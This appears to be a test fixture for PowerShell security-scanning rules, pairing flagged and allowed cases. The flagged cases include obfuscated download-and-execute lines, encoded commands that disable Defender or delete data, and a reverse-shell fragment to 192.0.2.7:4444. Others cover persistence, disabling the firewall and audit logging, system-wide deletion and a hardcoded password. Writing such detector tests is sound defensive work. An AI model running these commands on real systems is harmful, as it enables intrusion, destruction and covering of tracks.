$setup = (New-Object Net.WebClient).DownloadString('https://tools.example.org/setup.ps1')
# ruleid: shell.download-run
iex $setup
# --- case
$page = Invoke-WebRequest -Uri https://tools.example.org/a -UseBasicParsing
# ruleid: shell.download-run
& ([scriptblock]::Create($page.Content))
# --- case
# ruleid: shell.download-run
i`ex (i`rm https://tools.example.org/a)
# --- case
# ruleid: shell.download-run
& ('i'+'ex') (irm https://tools.example.org/a)
# --- case
iwr https://tools.example.org/fix.ps1 -OutFile $env:TEMP\fix.ps1
# ruleid: shell.download-run
& $env:TEMP\fix.ps1
# --- case
# ruleid: shell.download-run
powershell -nop -enc aQByAG0AIABoAHQAdABwAHMAOgAvAC8AdABvAG8AbABzAC4AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQAgAHwAIABpAGUAeAA=
# --- case
Invoke-WebRequest https://tools.example.org/fix.ps1 -OutFile fix.ps1
if ((Get-FileHash fix.ps1).Hash -ne $expected) { throw 'changed' }
# ok: shell.download-run
.\fix.ps1
# --- case
$page = Invoke-RestMethod https://api.example.org/items
# ok: shell.download-run
Write-Output $page.items
# --- case
<#
# ok: shell.download-run
iex (irm https://tools.example.org/a)
#>
# --- case
$code = Invoke-RestMethod http://tools.example.org/a
# ruleid: shell.download-run-plain
Invoke-Expression $code
# --- case
$code = Invoke-RestMethod http://tools.example.org/a
# ok: shell.download-run-plain
$code | Set-Content a.txt
# --- case
Invoke-WebRequest https://tools.example.org/app.exe -OutFile app.exe
# ruleid: shell.download-installed
Start-Process .\app.exe -Wait
# --- case
Invoke-WebRequest https://tools.example.org/app.zip -OutFile app.zip
# ok: shell.download-installed
Expand-Archive app.zip
# --- case
# ruleid: shell.decode-and-run
pwsh -NoProfile -EncodedCommand RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAGQAYQB0AGEAIAB8ACAAUgBlAG0AbwB2AGUALQBJAHQAZQBtAA==
# --- case
$text = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob))
# ruleid: shell.decode-and-run
Invoke-Expression $text
# --- case
$bytes = [Convert]::FromBase64String($image)
# ok: shell.decode-and-run
[IO.File]::WriteAllBytes('a.png', $bytes)
# --- case
# ruleid: shell.protection-off
powershell -e UwBlAHQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAC0ARABpAHMAYQBiAGwAZQBSAGUAYQBsAHQAaQBtAGUATQBvAG4AaQB0AG8AcgBpAG4AZwAgACQAdAByAHUAZQA=
# --- case
# ruleid: shell.protection-off
Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\Lsa -Name RunAsPPL -Value 0
# --- case
# ruleid: shell.protection-off
Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force
# --- case
# ruleid: shell.protection-off
Disable-NetFirewallRule -All
# --- case
# ok: shell.protection-off
Set-MpPreference -DisableRealtimeMonitoring $false
# --- case
# ok: shell.protection-off
Set-SmbServerConfiguration -EnableSMB1Protocol $false -Force
# --- case
param([string]$Target)
# ruleid: shell.eval
Invoke-Expression "ping $Target"
# --- case
$line = Read-Host 'command'
# ruleid: shell.eval
iex $line
# --- case
param([int]$Count)
# ok: shell.eval
Write-Output $Count
# --- case
param([string]$Target)
# ok: shell.eval
Test-Connection -ComputerName $Target
# --- case
$name = Read-Host 'host'
# ruleid: shell.command-built
cmd /c "ping $name"
# --- case
param([string]$Path)
# ruleid: shell.command-built
powershell -Command "Get-Item $Path"
# --- case
$name = 'localhost'
# ok: shell.command-built
cmd /c "ping $name"
# --- case
# ruleid: shell.query-built
$cmd.CommandText = "SELECT id FROM users WHERE name = '$name'"
# --- case
# ruleid: shell.query-built
Invoke-Sqlcmd -ServerInstance db -Query "DELETE FROM items WHERE id = $($item.Id)"
# --- case
# ok: shell.query-built
Invoke-Sqlcmd -ServerInstance db -Query "SELECT id FROM users WHERE name = @name"
# --- case
# ruleid: shell.tls-unverified
[Net.ServicePointManager]::ServerCertificateValidationCallback = { param($s, $c, $h, $e) return $true }
# --- case
# ruleid: shell.tls-unverified
Set-Item WSMan:\localhost\Client\TrustedHosts -Value '*' -Force
# --- case
# ruleid: shell.tls-unverified
$options = New-PSSessionOption -SkipCACheck -SkipCNCheck
# --- case
# ok: shell.tls-unverified
Set-Item WSMan:\localhost\Client\TrustedHosts -Value 'app01.example.org' -Force
# --- case
# ruleid: shell.execution-policy
Set-ExecutionPolicy -Scope LocalMachine -ExecutionPolicy Unrestricted -Force
# --- case
# ruleid: shell.execution-policy
Start-Process powershell -ArgumentList '-NoProfile -ep bypass -File a.ps1'
# --- case
# ok: shell.execution-policy
Set-ExecutionPolicy -Scope CurrentUser -ExecutionPolicy AllSigned
# --- case
# ruleid: shell.destructive-delete
Remove-Item -Recurse -Force -Path 'C:\Windows'
# --- case
# ruleid: shell.destructive-delete
rm -r -fo $env:SystemDrive\
# --- case
# ruleid: shell.destructive-delete
Get-ChildItem C:\ -Recurse | Remove-Item -Force
# --- case
# ruleid: shell.destructive-delete
Clear-Disk -Number 1 -RemoveData -Confirm:$false
# --- case
# ok: shell.destructive-delete
Remove-Item -Recurse -Force C:\build\out
# --- case
# ok: shell.destructive-delete
Get-ChildItem .\logs -Recurse | Remove-Item -Force
# --- case
# ruleid: shell.open-permissions
icacls C:\app /grant "BUILTIN\Users:(OI)(CI)F"
# --- case
# ruleid: shell.open-permissions
$rule = New-Object System.Security.AccessControl.FileSystemAccessRule('Everyone', 'FullControl', 'Allow')
# --- case
# ok: shell.open-permissions
icacls C:\app /grant "svc_app:(OI)(CI)M"
# --- case
# ruleid: shell.secret-as-argument
$plain = 'Gr4vel{{}}Tr4in99'
$secure = ConvertTo-SecureString $plain -AsPlainText -Force
# --- case
# ruleid: shell.secret-as-argument
$cred = New-Object PSCredential('svc', (ConvertTo-SecureString 'Gr4vel{{}}Tr4in99' -AsPlainText -Force))
# --- case
# ok: shell.secret-as-argument
$secure = ConvertTo-SecureString $env:SVC_PASSWORD -AsPlainText -Force
# --- case
# ruleid: shell.persistence
New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name upd -Value 'C:\upd.exe'
# --- case
# ruleid: shell.persistence
Register-ScheduledTask -TaskName upd -Action (New-ScheduledTaskAction -Execute powershell -Argument '-w hidden -File a.ps1')
# --- case
# ruleid: shell.persistence
Copy-Item upd.lnk "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup"
# --- case
# ok: shell.persistence
Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Run
# --- case
# ok: shell.persistence
Register-ScheduledTask -TaskName backup -Action (New-ScheduledTaskAction -Execute 'C:\tools\backup.exe')
# --- case
$client = New-Object System.Net.Sockets.TCPClient('192.0.2.7', 4444)
$stream = $client.GetStream()
# ruleid: shell.reverse-shell
$out = (iex $data 2>&1 | Out-String)
# --- case
$client = New-Object System.Net.Sockets.TCPClient('db.example.org', 5432)
# ok: shell.reverse-shell
$client.Connected
# --- case
# ruleid: shell.service-without-login
Set-Item WSMan:\localhost\Service\AllowUnencrypted -Value $true
# --- case
# ruleid: shell.service-without-login
Enable-LocalUser -Name Guest
# --- case
# ok: shell.service-without-login
Disable-LocalUser -Name Guest
# --- case
# ruleid: shell.history-wiped
auditpol /set /category:* /success:disable
# --- case
# ruleid: shell.history-wiped
Clear-EventLog -LogName Security
# --- case
# ok: shell.history-wiped
Get-EventLog -LogName Security -Newest 10
